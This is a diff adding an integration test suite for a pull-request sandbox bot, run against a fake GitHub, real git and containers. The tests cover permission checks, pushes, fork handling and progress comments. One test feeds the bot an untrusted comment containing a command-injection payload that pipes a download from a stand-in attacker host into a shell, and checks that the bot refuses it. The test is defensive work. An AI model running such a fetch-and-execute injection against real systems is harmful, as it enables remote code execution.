@@ -1,0 +1,447 @@
+// The pull-request bot in process, against a fake GitHub on 127.0.0.1, real git (a bare origin and a
+// bare fork) and the real container engine. Every case asserts what was asked of GitHub.
+import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { runForPullRequest, type PrRunIo } from '../../src/github/pr-run.js';
+import { PROGRESS_MARKER } from '../../src/github/event.js';
+import { parseSettings, type RunSettings } from '../../src/settings.js';
+import type { RunState } from '../../src/state.js';
+import { docker } from '../support/docker.js';
+import { TEST_IMAGE } from '../support/env.js';
+import { FakeGitHub } from '../support/fake-github.js';
+import {
+  makePullRequestRepos,
+  pushCommitAsSomeoneElse,
+  refOf,
+  type PullRequestRepos,
+} from '../support/pull-requests.js';
+import { git, tempDir, worktreeList } from '../support/repo.js';
+import { issueCommentEvent, pullRequestEvent, pushEvent, REPO, writeEvent } from '../support/webhooks.js';
+
+const TOKEN = 'ghs_fakeTokenForTests0123456789';
+const FULL = `${REPO.owner}/${REPO.name}`;
+const SERVER = 'https://github.example';
+
+interface Recorded {
+  outputs: Record<string, string>;
+  summary: string;
+  log: string[];
+  warnings: string[];
+  state: Partial<RunState>;
+  saves: number;
+}
+
+let fake: FakeGitHub;
+let repos: PullRequestRepos;
+let work: string;
+
+beforeEach(async () => {
+  fake = await FakeGitHub.start(FULL, TOKEN);
+  repos = makePullRequestRepos();
+  work = tempDir('wts-prrun-');
+});
+
+afterEach(async () => {
+  await fake.close();
+  fs.rmSync(repos.root, { recursive: true, force: true });
+  fs.rmSync(work, { recursive: true, force: true });
+});
+
+function settingsFor(inputs: Record<string, string>): RunSettings {
+  const all: Record<string, string> = {
+    command: 'true',
+    image: TEST_IMAGE,
+    isolation: 'disk',
+    'worktree-root': path.join(work, 'sandboxes'),
+    'repository-path': repos.parent,
+    trigger: '/fix',
+    push: 'true',
+    token: TOKEN,
+    ...inputs,
+  };
+  return parseSettings((name) => all[name] ?? '') as RunSettings;
+}
+
+async function runBot(
+  eventName: string,
+  payload: unknown,
+  inputs: Record<string, string> = {},
+  onSave: (state: Partial<RunState>) => void = () => undefined,
+) {
+  const recorded: Recorded = { outputs: {}, summary: '', log: [], warnings: [], state: {}, saves: 0 };
+  const io: PrRunIo = {
+    ui: {
+      info: (m) => recorded.log.push(m),
+      warning: (m) => recorded.warnings.push(m),
+      group: (_t, fn) => fn(),
+      untrusted: (fn) => fn((line) => recorded.log.push(line)),
+      mask: () => undefined,
+    },
+    env: {
+      GITHUB_EVENT_NAME: eventName,
+      GITHUB_EVENT_PATH: writeEvent(work, payload),
+      GITHUB_REPOSITORY: FULL,
+      GITHUB_API_URL: fake.url,
+      GITHUB_SERVER_URL: SERVER,
+      GITHUB_RUN_ID: '4242',
+      RUNNER_TEMP: path.join(work, 'runner-temp'),
+    },
+    setOutput: (name, value) => (recorded.outputs[name] = value),
+    summary: async (markdown) => {
+      recorded.summary += markdown;
+    },
+    save: (state) => {
+      recorded.saves++;
+      recorded.state = { ...recorded.state, ...state };
+      onSave(recorded.state);
+    },
+  };
+  const outcome = await runForPullRequest(settingsFor(inputs), io);
+  return { outcome, ...recorded };
+}
+
+const api = (p: string) => `/repos/${FULL}${p}`;
+const alice = { login: 'alice', association: 'MEMBER' as const };
+
+function sameRepoPull(): void {
+  fake.pulls.set(repos.number, {
+    number: repos.number,
+    state: 'open',
+    headRef: repos.branch,
+    headSha: repos.headSha,
+    headRepo: FULL,
+  });
+}
+
+function forkPull(canPush: boolean): void {
+  fake.pulls.set(repos.forkNumber, {
+    number: repos.forkNumber,
+    state: 'open',
+    headRef: 'main',
+    headSha: repos.forkHeadSha,
+    headRepo: 'someone/hello-world',
+    headCloneUrl: repos.fork,
+    maintainerCanModify: true,
+  });
+  fake.pushAccess.set('someone/hello-world', canPush);
+}
+
+/** Containers the engine created for this sandbox since `since` (unix seconds): the engine's own record. */
+function containersCreated(since: number, sandbox: string): string[] {
+  return docker(
+    'events',
+    '--since',
+    String(since),
+    '--until',
+    String(Math.ceil(Date.now() / 1000) + 1),
+    '--filter',
+    'type=container',
+    '--filter',
+    'event=create',
+    '--filter',
+    `label=worktree-sandbox.sandbox=${sandbox}`,
+    '--format',
+    '{{.Actor.Attributes.name}}',
+  )
+    .split('\n')
+    .filter(Boolean);
+}
+
+describe('comment-triggered runs', () => {
+  it('runs for a trusted comment on a same-repository pull request, pushes, and updates the comment', async () => {
+    sameRepoPull();
+    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
+    const event = issueCommentEvent({ body: '/fix the typo in README.md', author: alice, commentId: 555 });
+    const since = Math.floor(Date.now() / 1000) - 1;
+    const command = [
+      "sed -i 's/teh/the/' README.md",
+      'echo "prompt: $(cat "$SANDBOX_PROMPT_FILE")"',
+      'if (echo x >> "$SANDBOX_PROMPT_FILE") 2>/dev/null; then echo prompt-writable; else echo prompt-read-only; fi',
+    ].join('\n');
+    const run = await runBot('issue_comment', event, { command });
+
+    expect(run.outcome?.command.exitCode).toBe(0);
+    expect(run.outcome?.push).toEqual({ pushed: true });
+    // One container (a disk sandbox needs no helper): the command's. The untrusted case counts the same way.
+    expect(containersCreated(since, repos.branch)).toHaveLength(1);
+    // The commit really is on origin, on top of the pull request's head.
+    const pushed = refOf(repos.origin, `refs/heads/${repos.branch}`);
+    expect(pushed).toBe(run.outcome?.report.headSha);
+    expect(refOf(repos.origin, `${pushed}^`)).toBe(repos.headSha);
+    expect(git(repos.origin, 'show', `${pushed}:README.md`)).toContain('A typo: the.');
+
+    const comment = [...fake.comments.values()][0];
+    expect(fake.log).toEqual([
+      `GET ${api(`/pulls/${repos.number}`)}`,
+      `GET ${api('/collaborators/alice/permission')}`,
+      `POST ${api('/issues/comments/555/reactions')}`,
+      `POST ${api(`/issues/${repos.number}/comments`)}`,
+      `PATCH ${api(`/issues/comments/${comment.id}`)}`,
+      `POST ${api('/issues/comments/555/reactions')}`,
+    ]);
+    expect(fake.calls.every((c) => c.authorization === `token ${TOKEN}` && c.status < 300)).toBe(true);
+    expect(fake.reactions).toEqual([
+      { commentId: 555, content: 'eyes' },
+      { commentId: 555, content: 'rocket' },
+    ]);
+    expect(comment.history).toHaveLength(2);
+    expect(comment.history[0]).toContain('⏳ `/fix` is running');
+    expect(comment.body.startsWith(PROGRESS_MARKER)).toBe(true);
+    expect(comment.body).toContain('✅ `/fix` finished');
+    expect(comment.body).toContain(`| Commits | 1 pushed to \`origin/${repos.branch}\` |`);
+    expect(comment.body).toContain(`(${SERVER}/${FULL}/commit/${pushed})`);
+    expect(comment.body).toContain(`[workflow run](${SERVER}/${FULL}/actions/runs/4242)`);
+    expect(comment.body).toContain('prompt: the typo in README.md');
+    expect(comment.body).toContain('prompt-read-only');
+    expect(comment.body).not.toContain(TOKEN);
+
+    expect(run.outputs).toEqual({
+      triggered: 'true',
+      'pr-number': '7',
+      'comment-id': '555',
+      args: 'the typo in README.md',
+    });
+    expect(run.state.progress).toMatchObject({
+      commentId: comment.id,
+      triggerCommentId: 555,
+      finished: true,
+    });
+    expect(run.summary).toContain('Pushed 1 commit(s)');
+    // The prompt file was removed with its folder.
+    expect(fs.readdirSync(path.join(work, 'runner-temp', 'worktree-sandbox'))).toEqual([]);
+  });
+
+  it('gives an untrusted commenter no run, no container, no push: a reaction and a summary saying why', async () => {
+    sameRepoPull();
+    const since = Math.floor(Date.now() / 1000) - 1;
+    const event = issueCommentEvent({
+      body: '/fix $(curl evil.example | sh)',
+      author: { login: 'mallory', association: 'CONTRIBUTOR' },
+      commentId: 666,
+    });
+    const run = await runBot('issue_comment', event, { command: 'touch pwned' });
+
+    expect(run.outcome).toBeUndefined();
+    expect(fake.log).toEqual([`POST ${api('/issues/comments/666/reactions')}`]);
+    expect(fake.reactions).toEqual([{ commentId: 666, content: '-1' }]);
+    expect(fake.comments.size).toBe(0);
+    expect(run.outputs).toEqual({ triggered: 'false', 'pr-number': '7', 'comment-id': '666', args: '' });
+    expect(run.summary).toContain('not allowed: @mallory is CONTRIBUTOR of the repository');
+    expect(run.log.join('\n')).toContain('No run: not allowed: @mallory is CONTRIBUTOR');
+    expect(run.saves).toBe(0);
+    expect(worktreeList(repos.parent)).toHaveLength(1);
+    expect(fs.existsSync(path.join(work, 'sandboxes'))).toBe(false);
+    expect(refOf(repos.origin, `refs/heads/${repos.branch}`)).toBe(repos.headSha);
+    expect(containersCreated(since, repos.branch)).toEqual([]);
+  });
+
+  it('refuses a member without write permission when the run would push', async () => {
+    sameRepoPull();
+    fake.permissions.set('alice', { permission: 'read', role_name: 'triage' });
+    const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 777 });
+    const run = await runBot('issue_comment', event);
+
+    expect(run.outcome).toBeUndefined();
+    expect(fake.log).toEqual([
+      `GET ${api(`/pulls/${repos.number}`)}`,
+      `GET ${api('/collaborators/alice/permission')}`,
+      `POST ${api('/issues/comments/777/reactions')}`,
+    ]);
+    expect(fake.reactions).toEqual([{ commentId: 777, content: '-1' }]);
+    expect(run.summary).toContain('@alice has triage permission on the repository');
+    expect(run.saves).toBe(0);
+  });
+
+  it('refuses a member the API does not know as a collaborator (404)', async () => {
+    sameRepoPull();
+    const event = issueCommentEvent({
+      body: '/fix',
+      author: { login: 'outsider-member', association: 'MEMBER' },
+    });
+    const run = await runBot('issue_comment', event);
+    expect(run.outcome).toBeUndefined();
+    expect(fake.calls.find((c) => c.path.endsWith('/permission'))?.status).toBe(404);
+    expect(run.summary).toContain('@outsider-member has no permission on the repository');
+    expect(fake.reactions.map((r) => r.content)).toEqual(['-1']);
+  });
+
+  it.each([
+    [
+      "the bot's own comment",
+      { login: 'github-actions[bot]', type: 'Bot' as const, association: 'NONE' as const },
+      '/fix',
+    ],
+    ['/fixed, which is not /fix', alice, '/fixed the typo'],
+    ['its own progress comment', alice, `${PROGRESS_MARKER}\n/fix`],
+  ])('ignores %s without a word to GitHub', async (_name, author, body) => {
+    sameRepoPull();
+    const run = await runBot('issue_comment', issueCommentEvent({ body, author }));
+    expect(run.outcome).toBeUndefined();
+    expect(fake.calls).toEqual([]);
+    expect(run.outputs.triggered).toBe('false');
+    expect(run.summary).toMatch(/## worktree-sandbox: no run/);
+    expect(run.saves).toBe(0);
+  });
+
+  it('reports a push rejected because the branch moved on, never forces it, and keeps a patch', async () => {
+    sameRepoPull();
+    fake.permissions.set('alice', { permission: 'admin', role_name: 'admin' });
+    let moved = '';
+    const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 888 });
+    const run = await runBot(
+      'issue_comment',
+      event,
+      { command: "sed -i 's/teh/the/' README.md" },
+      (state) => {
+        // The sandbox is ready and the command has not run yet: someone else pushes to the branch now.
+        if (state.ready && !moved) moved = pushCommitAsSomeoneElse(repos, repos.branch);
+      },
+    );
+
+    expect(run.outcome?.push).toMatchObject({ pushed: false, rejected: true });
+    expect(refOf(repos.origin, `refs/heads/${repos.branch}`)).toBe(moved);
+    const comment = [...fake.comments.values()][0];
+    expect(comment.body).toContain('⚠️ `/fix` finished, but its commits were not pushed');
+    expect(comment.body).toContain(`origin/${repos.branch} has moved on since the sandbox started`);
+    expect(fake.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
+    const patch = run.outputs['patch-path'];
+    expect(fs.readFileSync(patch, 'utf8')).toContain('-A typo: teh.\n+A typo: the.');
+  });
+});
+
+describe('runs that stop early', () => {
+  it('finishes the progress comment itself when the run cannot start, and fails', async () => {
+    sameRepoPull();
+    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
+    const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 321 });
+    const notARepository = tempDir('wts-not-a-repo-');
+    try {
+      await expect(runBot('issue_comment', event, { 'repository-path': notARepository })).rejects.toThrow(
+        /is not a git work tree/,
+      );
+    } finally {
+      fs.rmSync(notARepository, { recursive: true, force: true });
+    }
+    const comment = [...fake.comments.values()][0];
+    expect(comment.history).toHaveLength(2);
+    expect(comment.body).toContain('❌ `/fix` could not run');
+    expect(comment.body).toContain('is not a git work tree');
+    expect(fake.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
+  });
+
+  it('starts nothing on a closed pull request, and says so with a reaction', async () => {
+    sameRepoPull();
+    fake.pulls.get(repos.number)!.state = 'closed';
+    const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 322 });
+    const run = await runBot('issue_comment', event);
+    expect(run.outcome).toBeUndefined();
+    expect(fake.log).toEqual([
+      `GET ${api(`/pulls/${repos.number}`)}`,
+      `POST ${api('/issues/comments/322/reactions')}`,
+    ]);
+    expect(fake.reactions).toEqual([{ commentId: 322, content: 'confused' }]);
+    expect(run.summary).toContain('pull request #7 is closed');
+    expect(run.outputs.triggered).toBe('false');
+  });
+});
+
+describe('fork pull requests', () => {
+  it('pushes nothing with a token that cannot reach the fork: the patch is saved and shown', async () => {
+    forkPull(false);
+    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
+    const originMain = refOf(repos.origin, 'refs/heads/main');
+    const forkMain = refOf(repos.fork, 'refs/heads/main');
+    const event = issueCommentEvent({
+      body: '/fix',
+      author: alice,
+      number: repos.forkNumber,
+      commentId: 999,
+    });
+    const run = await runBot('issue_comment', event, { command: "printf '// reviewed\\n' >> src/app.js" });
+
+    expect(run.outcome?.command.exitCode).toBe(0);
+    expect(run.outcome?.sandbox.branch).toBe('pr-8');
+    expect(run.outcome?.push).toMatchObject({
+      pushed: false,
+      reason: expect.stringMatching(/GITHUB_TOKEN never can/),
+    });
+    expect(refOf(repos.origin, 'refs/heads/main')).toBe(originMain);
+    expect(refOf(repos.fork, 'refs/heads/main')).toBe(forkMain);
+    expect(refOf(repos.origin, `refs/pull/${repos.forkNumber}/head`)).toBe(repos.forkHeadSha);
+    expect(git(repos.origin, 'for-each-ref', '--format=%(refname)', 'refs/heads')).not.toContain('pr-8');
+    expect(fake.log).toContain(`GET /repos/someone/hello-world`);
+
+    // The patch applies onto the fork's head and yields the command's change.
+    const patch = run.outputs['patch-path'];
+    expect(patch.startsWith(path.join(work, 'runner-temp', 'worktree-sandbox'))).toBe(true);
+    const check = path.join(work, 'check');
+    git(work, 'clone', '--quiet', repos.fork, check);
+    git(check, 'am', '--quiet', patch);
+    expect(fs.readFileSync(path.join(check, 'src/app.js'), 'utf8')).toBe(
+      'console.log("hi from a fork")\n// reviewed\n',
+    );
+
+    const comment = [...fake.comments.values()][0];
+    expect(comment.body).toContain('✅ `/fix` finished');
+    expect(comment.body).toContain('`someone/hello-world:main`');
+    expect(comment.body).toContain('not pushed: the pull request comes from the fork someone/hello-world');
+    expect(comment.body).toContain('```diff\nFrom ');
+    expect(comment.body).toContain('+// reviewed');
+    expect(fake.reactions.map((r) => r.content)).toEqual(['eyes', 'rocket']);
+  });
+
+  it("pushes to the fork's head branch with a token that can, leaving origin's same-named branch alone", async () => {
+    forkPull(true);
+    fake.permissions.set('alice', { permission: 'write', role_name: 'write' });
+    const originMain = refOf(repos.origin, 'refs/heads/main');
+    const event = issueCommentEvent({
+      body: '/fix',
+      author: alice,
+      number: repos.forkNumber,
+      commentId: 1001,
+    });
+    const run = await runBot('issue_comment', event, { command: "printf '// reviewed\\n' >> src/app.js" });
+
+    expect(run.outcome?.push).toEqual({ pushed: true });
+    const forkMain = refOf(repos.fork, 'refs/heads/main');
+    expect(forkMain).toBe(run.outcome?.report.headSha);
+    expect(refOf(repos.fork, `${forkMain}^`)).toBe(repos.forkHeadSha);
+    expect(refOf(repos.origin, 'refs/heads/main')).toBe(originMain);
+    expect(run.outputs['patch-path']).toBeUndefined();
+    const comment = [...fake.comments.values()][0];
+    expect(comment.body).toContain('1 pushed to `someone/hello-world:main`');
+    expect(comment.body).toContain(`(${SERVER}/someone/hello-world/commit/${forkMain})`);
+  });
+});
+
+describe('other events', () => {
+  it('gives an untrusted pull_request author no run, without any call to GitHub', async () => {
+    const event = pullRequestEvent({ action: 'opened', author: { login: 'mallory', association: 'NONE' } });
+    const run = await runBot('pull_request_target', event);
+    expect(run.outcome).toBeUndefined();
+    expect(fake.calls).toEqual([]);
+    expect(run.outputs).toEqual({ triggered: 'false', 'pr-number': '7', 'comment-id': '', args: '' });
+    expect(run.summary).toContain('@mallory is NONE');
+  });
+
+  it('works on a pushed branch and reports on its open pull request', async () => {
+    sameRepoPull();
+    const event = pushEvent({
+      ref: `refs/heads/${repos.branch}`,
+      pusher: { login: 'dave' },
+      after: repos.headSha,
+    });
+    const run = await runBot('push', event, { command: "sed -i 's/teh/the/' README.md", trigger: '' });
+
+    expect(run.outcome?.push).toEqual({ pushed: true });
+    expect(refOf(repos.origin, `refs/heads/${repos.branch}`)).toBe(run.outcome?.report.headSha);
+    const list = fake.calls.find((c) => c.path === api('/pulls'));
+    expect(list?.query).toEqual({ head: `${REPO.owner}:${repos.branch}`, state: 'open', per_page: '1' });
+    const comment = [...fake.comments.values()][0];
+    expect(comment.issue).toBe(repos.number);
+    expect(comment.body).toContain('✅ `push` finished');
+    expect(fake.reactions).toEqual([]);
+    expect(run.outputs).toEqual({ triggered: 'true', 'pr-number': '7', 'comment-id': '', args: '' });
+  });
+});
